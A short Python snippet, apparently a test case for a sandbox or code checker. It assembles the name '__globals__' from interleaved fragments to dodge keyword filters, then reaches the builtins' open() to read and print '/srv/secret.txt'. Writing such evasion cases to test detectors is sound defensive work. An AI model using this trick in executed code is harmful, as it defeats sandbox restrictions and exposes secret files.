# reaches: the attribute's name is woven from two texts
name = "".join(a + b for a, b in zip("_goas_", "_lbl_\x00"))[:-1]


def f():
    pass


name = "__" + "".join(a + b for a, b in zip("goa", "lbl")) + "s__"
print(getattr(f, name)["__builtins__"].open("/srv/secret.txt").read())
